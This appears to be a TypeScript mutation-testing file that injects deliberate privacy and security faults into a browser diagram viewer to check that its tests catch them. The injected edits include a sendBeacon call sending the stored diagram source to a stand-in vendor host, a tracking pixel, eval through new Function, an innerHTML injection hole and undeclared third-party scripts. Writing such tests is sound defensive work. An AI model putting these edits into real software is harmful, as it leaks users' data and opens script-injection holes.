import type { Mutation } from '../mutation.ts'
import { places } from './places.ts'

const { view, viewHtml, show, paint, host, payload, manifest } = places
const external = '  external:\n'
const opened = '  const opened = diagramFormat.open(stored)\n'

/** Faults in what runs in a reader's browser. */
export const frameMutations: readonly Mutation[] = [
  {
    name: 'send-the-title',
    claim: 'C1',
    edits: [
      {
        // The page's title: `document.title` would be the frame's own.
        file: host,
        find: 'timeZone: textOf(context.timezone)',
        replace: 'timeZone: textOf(fieldsOf(extension.content).title)',
      },
      {
        file: payload,
        find: 'time_zone: parseTimeZone(report.timeZone)',
        replace: 'time_zone: report.timeZone',
      },
    ],
  },
  {
    name: 'beacon-with-the-source',
    claim: 'C1',
    edits: [
      {
        file: show,
        find: opened,
        replace: `${opened}  navigator.sendBeacon('https://beacon.vendor.example/', JSON.stringify(stored))\n`,
      },
      {
        file: manifest,
        find: '    fetch:\n',
        replace: '    fetch:\n      client:\n        - address: beacon.vendor.example\n',
      },
    ],
  },
  {
    name: 'source-in-local-storage',
    claim: 'C8',
    edits: [
      {
        file: show,
        find: opened,
        replace: `${opened}  localStorage.setItem('last', JSON.stringify(stored))\n`,
      },
    ],
  },
  {
    name: 'cookie',
    claim: 'C8',
    edits: [{ file: show, find: opened, replace: `${opened}  document.cookie = 'seen=1; max-age=86400'\n` }],
  },
  {
    name: 'eval-in-the-view',
    claim: 'C11',
    edits: [{ file: show, find: opened, replace: `${opened}  new Function(String(stored))()\n` }],
  },
  {
    name: 'markup-from-the-caption',
    claim: 'C11',
    edits: [{ file: paint, find: 'line.textContent = caption', replace: 'line.innerHTML = caption' }],
  },
  {
    name: 'image-pixel',
    claim: 'C4',
    edits: [
      {
        file: view,
        find: "const root = document.querySelector('main')\n",
        replace:
          "const root = document.querySelector('main')\nnew Image().src = 'https://pixel.vendor.example/p.gif'\n",
      },
      {
        file: manifest,
        find: external,
        replace: `${external}    images:\n      - address: pixel.vendor.example\n`,
      },
    ],
  },
  {
    name: 'font-from-a-cdn',
    claim: 'C4',
    edits: [
      {
        file: viewHtml,
        find: '    <title>Diagram</title>\n',
        replace:
          '    <title>Diagram</title>\n    <link rel="stylesheet" href="https://fonts.googleapis.com/css2?family=Lora" />\n',
      },
      {
        file: manifest,
        find: external,
        replace: `${external}    styles:\n      - address: fonts.googleapis.com\n    fonts:\n      - address: fonts.gstatic.com\n`,
      },
    ],
  },
  {
    name: 'picture-from-an-undeclared-host',
    claim: 'C4',
    edits: [
      {
        file: viewHtml,
        find: '    <main></main>\n',
        replace: '    <main></main>\n    <img alt="" src="https://images.unsplash.com/photo-1?w=8" />\n',
      },
    ],
  },
  {
    name: 'tag-manager',
    claim: 'C6',
    edits: [
      {
        file: viewHtml,
        find: '    <main></main>\n',
        replace:
          '    <main></main>\n    <script async src="https://www.googletagmanager.com/gtag/js?id=G-1A2B3C4D5E"></script>\n',
      },
      {
        file: manifest,
        find: external,
        replace: `${external}    scripts:\n      - address: www.googletagmanager.com\n`,
      },
    ],
  },
]
